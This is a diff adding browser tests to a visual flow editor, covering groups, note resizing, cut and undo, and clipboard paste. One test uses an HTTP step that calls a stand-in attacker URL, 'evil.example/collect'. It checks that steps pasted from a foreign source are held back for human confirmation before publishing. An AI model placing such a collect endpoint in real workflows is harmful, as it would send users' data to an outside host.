@@ -5,7 +5,7 @@ import { draw } from '../support/draw.ts';
 import { expect } from './support/browser.ts';
 import { card, output, palette, stepType } from './support/canvas.ts';
 import { drag, inRow, middleOf, openFlow, picker, savedFlow, wire } from './support/drawing.ts';
-import { signUp } from './support/owner.ts';
+import { apiOf, signUp } from './support/owner.ts';
 import { useProduct } from './support/stage.ts';
 
 const hearth = useProduct();
@@ -146,4 +146,79 @@ test('a box selects, what is selected moves together, and one undo takes it back
   plain(tops[2]).toBe(tops[1]);
   await page.keyboard.press('Control+z');
   await expect.poll(async () => (await saved(id)).nodes.map(({ position }) => position.y)).toEqual([0, 0, 0]);
+});
+
+test('a group is made, folded and opened with the mouse; its wires stay, and it moves as one', async () => {
+  const flow = three();
+  const id = await open({ ...flow, groups: [{ id: 'group', name: 'Middle', members: ['one'] }] });
+  const group = page.getByRole('group', { name: 'Group: Middle' });
+  await group.getByRole('button', { name: 'Show Middle as one card' }).click();
+  await expect(card(page, 'one')).toBeHidden();
+  await expect(wire(page, 'start', 'group:group')).toBeAttached();
+  await expect(wire(page, 'group:group', 'two')).toBeAttached();
+  const grip = await middleOf(group.getByText('1 step'));
+  await drag(page, { from: grip, to: { x: grip.x, y: grip.y + 100 } });
+  plain((await saved(id)).nodes[1]?.position.y).toBeGreaterThan(60);
+  await group.getByRole('button', { name: 'Show what is in Middle' }).click();
+  await expect(card(page, 'one')).toBeVisible();
+  const name = await middleOf(group.getByText('Middle'));
+  await drag(page, { from: name, to: { x: name.x, y: name.y - 100 } });
+  await expect.poll(async () => Math.abs((await saved(id)).nodes[1]?.position.y ?? 99)).toBeLessThan(60);
+  await group.getByRole('button', { name: 'Take the frame Middle away' }).click();
+  plain((await saved(id)).groups).toBeUndefined();
+});
+
+test('a note is sized by its corner, in one step of undo', async () => {
+  const flow = three();
+  const notes = [{ id: 'note', text: 'Mind', position: { x: 0, y: 200 }, size: { width: 240, height: 120 } }];
+  const id = await open({ ...flow, notes });
+  const from = await middleOf(page.getByRole('button', { name: /^Size of the note/ }));
+  await drag(page, { from, to: { x: from.x + 80, y: from.y + 40 } });
+  await expect.poll(async () => (await saved(id)).notes[0]?.size?.width).toBeGreaterThan(280);
+  await page.keyboard.press('Control+z');
+  await expect.poll(async () => (await saved(id)).notes[0]?.size).toEqual({ width: 240, height: 120 });
+});
+
+test('steps travel as text; what was not copied here is shown to a person before it is published', async () => {
+  const source = inRow(
+    draw({
+      nodes: { start: ['manual'], fetch: ['http.request', { url: 'https://evil.example/collect' }] },
+      wires: ['start > fetch'],
+    }),
+  );
+  await open(source);
+  await page.keyboard.press('Control+a');
+  await page.keyboard.press('Control+c');
+  const text = await page.evaluate(() => navigator.clipboard.readText());
+  plain(JSON.parse(text)).toMatchObject({ format: 'hearth.clip/1', nodes: [{ id: 'start' }, { id: 'fetch' }] });
+
+  const own = await open(draw({ name: 'Own', nodes: {}, wires: [] }));
+  await page.keyboard.press('Control+v');
+  await expect(wire(page, 'start', 'fetch')).toBeAttached();
+  plain((await saved(own)).nodes.some((node) => node.unconfirmed)).toBe(false);
+
+  const foreign = await open(draw({ name: 'Foreign', nodes: {}, wires: [] }));
+  await page.evaluate((words) => navigator.clipboard.writeText(words), JSON.stringify({ ...JSON.parse(text), x: 1 }));
+  await page.keyboard.press('Control+v');
+  await expect(wire(page, 'start', 'fetch')).toBeAttached();
+  plain((await saved(foreign)).nodes[1]?.unconfirmed).toEqual(['url']);
+  await page.getByRole('button', { name: /^Publish/ }).click();
+  const publish = page.getByRole('dialog', { name: 'Publish' });
+  await expect(publish).toContainText('https://evil.example/collect');
+  await expect(publish.getByRole('button', { name: /^Publish/ })).toBeDisabled();
+  const refused = apiOf(page, hearth()).flows.publish.mutate({ id: foreign });
+  await plain(refused).rejects.toThrow(/confirm where they lead/);
+  await publish.getByRole('button', { name: 'I have looked at them' }).click();
+  await expect(publish.getByRole('button', { name: /^Publish/ })).toBeEnabled();
+  plain((await saved(foreign)).nodes[1]?.unconfirmed).toBeUndefined();
+});
+
+test('Ctrl+X cuts, and undo brings back', async () => {
+  const id = await open();
+  await card(page, 'two').getByRole('heading').click();
+  await page.keyboard.press('Control+x');
+  await expect(card(page, 'two')).toBeHidden();
+  await page.keyboard.press('Control+z');
+  await expect(card(page, 'two')).toBeVisible();
+  plain((await saved(id)).nodes).toHaveLength(3);
 });
